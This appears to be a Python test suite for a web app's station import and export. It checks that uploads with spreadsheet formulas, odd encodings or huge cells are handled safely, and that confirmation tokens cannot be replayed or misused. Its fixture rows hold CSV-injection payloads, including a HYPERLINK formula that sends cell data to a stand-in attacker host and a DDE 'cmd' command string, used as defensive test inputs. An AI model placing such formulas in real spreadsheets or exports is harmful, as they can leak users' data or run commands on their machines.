"""Hostile station files: formulas, huge cells, odd encodings, replayed confirmations."""

import io
import re

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from extensions import db
from stations.models import Station
from tests.factories import make_user

IMPORT, CONFIRM = "/coordinate/stations/import", "/coordinate/stations/import/confirm"
HEADER = "name,kind,address,latitude,longitude,coordinate system,amenities,phone,active,holiday rule"


def upload(client, data: bytes, filename="stations.csv", lang="en"):
    return client.post(IMPORT, {"file": (io.BytesIO(data), filename)}, lang=lang)


def token_of(page: str) -> str:
    return re.search(r'name="token" value="([^"]+)"', page).group(1)


def names(ctx, organisation_id):
    with ctx():
        return sorted(db.session.scalars(sa.select(Station.name).where(Station.organisation_id == organisation_id)))


FORMULA_ROWS = ['=HYPERLINK("http://evil.example/?"&A1;"点我"),Community centre,人民中路1号,31.875,120.553,GPS,,,yes,',
                '"=1+2",Community centre,"@SUM(1,2)",31.876,120.553,GPS,,+86 512 5868,yes,',
                '"-2+3",shop,"\tcmd|\' /C calc\'!A0",31.877,120.553,GPS,,,yes,']


def test_formula_text_imports_as_text_and_exports_defused(world, make_client, ctx):
    client = make_client(world.coordinator)
    body = (HEADER + "\r\n" + "\r\n".join(FORMULA_ROWS) + "\r\n").encode("utf-8")
    preview = upload(client, body)
    assert preview.status_code == 200, preview.get_data(as_text=True)[:2000]
    response = client.post(CONFIRM, {"token": token_of(preview.get_data(as_text=True)), "skip_bad": "1"})
    assert response.status_code == 303
    stored = names(ctx, world.org)
    assert len(stored) == 3, stored
    text = client.get("/coordinate/stations/export.csv").data.decode("utf-8-sig")
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")), line
    sheet = load_workbook(io.BytesIO(client.get("/coordinate/stations/export.xlsx").data)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    # the export uploads back unchanged
    again = upload(client, client.get("/coordinate/stations/export.csv").data)
    assert "3 unchanged" in again.get_data(as_text=True), again.get_data(as_text=True)[-3000:]


def test_an_xlsx_with_formulas_in_cells_never_stores_a_formula(world, make_client, ctx):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(","))
    sheet.append(["=A1&\"站\"", "Community centre", "=CONCAT(\"人民\",\"路\")", "=31+0.875", 120.553, "GPS", "", "",
                  "yes", ""])
    sheet.append(["普通站", "Community centre", "人民中路2号", 31.876, 120.553, "GPS", "", "=1/0", "yes", ""])
    out = io.BytesIO()
    workbook.save(out)
    client = make_client(world.coordinator)
    preview = upload(client, out.getvalue(), "s.xlsx")
    assert preview.status_code in (200, 422)
    page = preview.get_data(as_text=True)
    if 'name="token"' in page:
        client.post(CONFIRM, {"token": token_of(page), "skip_bad": "1"})
    assert not any(name.startswith("=") for name in names(ctx, world.org))


@pytest.mark.parametrize("data", [
    (HEADER + "\n").encode("utf-16"),
    (HEADER + "\n" + "暖新窝,Community centre,人民中路1号,31.875,120.553,GPS,,,yes,\n").encode("utf-16-le"),
    (HEADER + "\n" + "暖新站,Community centre,人民中路1號,31.875,120.553,GPS,,,yes,\n").encode("big5"),
    (HEADER + "\n" + "暖新窝,Community centre,人民中路1号,31.875,120.553,GPS,,,yes,\n").encode("gb18030"),
    (HEADER + "\n" + "x" * 400_000 + ",shop,a,31.8,120.5,GPS,,,yes,\n").encode(),
    (HEADER + "\n" + "\"unterminated,shop,a,31.8,120.5,GPS,,,yes,\n" * 2).encode(),
    (HEADER + "\n" + ",".join(["a"] * 5000) + "\n").encode(),
    b"\xff\xfe\x00\x00garbage",
    (HEADER + "\n" + "站,shop,地址,nan,inf,GPS,,,yes,\n" + "站2,shop,地址,1e308,-1e308,GPS,,,yes,\n").encode(),
    (HEADER + "\n" + "站,shop,地址,120.553,31.875,GCJ-02,,,yes,\n").encode(),
    (HEADER + "\r" + "站,shop,地址,31.875,120.553,GCJ-02,,,yes,\r").encode(),
])
def test_odd_files_never_500(world, make_client, data):
    client = make_client(world.coordinator)
    for lang in ("en", "zh"):
        response = upload(client, data, lang=lang)
        assert response.status_code in (200, 413, 422), response.status_code
        page = response.get_data(as_text=True)
        if 'name="token"' in page:
            confirm = client.post(CONFIRM, {"token": token_of(page), "skip_bad": "1"})
            assert confirm.status_code in (303, 409, 422)


def test_a_preview_cannot_be_confirmed_by_another_coordinator_even_of_the_same_organisation(world, make_client, ctx):
    with ctx():
        colleague = make_user("coordinator", "同事", world.org)
        db.session.commit()
        colleague_id = colleague.id
    body = (HEADER + "\n暖新窝,Community centre,人民中路1号,31.875,120.553,GPS,,,yes,\n").encode()
    token = token_of(upload(make_client(world.coordinator), body).get_data(as_text=True))
    for who in (colleague_id, world.other_coordinator, world.admin):
        response = make_client(who).post(CONFIRM, {"token": token})
        assert response.status_code in (404, 403, 422), (who, response.status_code)
    assert names(ctx, world.org) == [] and names(ctx, world.other_org) == []
    for who in (world.rider, world.staff):
        assert make_client(who).post(CONFIRM, {"token": token}).status_code == 403


def test_confirm_after_a_station_was_edited_on_its_page_is_a_new_preview(world, make_client, ctx):
    client = make_client(world.coordinator)
    body = (HEADER + "\n暖新窝,Community centre,人民中路1号,31.875,120.553,GPS,,,yes,\n").encode()
    client.post(CONFIRM, {"token": token_of(upload(client, body).get_data(as_text=True))})
    with ctx():
        station_id = db.session.scalar(sa.select(Station.id))
    export = client.get("/coordinate/stations/export.csv").data.decode("utf-8-sig")
    export = export.replace("人民中路1号", "人民中路9号")
    token = token_of(upload(client, export.encode()).get_data(as_text=True))
    hours = client.post(f"/coordinate/stations/{station_id}/hours",
                        {"holiday_rule": "closed_on_holidays", **{f"d{d}_all_day": "y" for d in range(7)}})
    assert hours.status_code == 303
    response = client.post(CONFIRM, {"token": token})
    assert response.status_code == 409
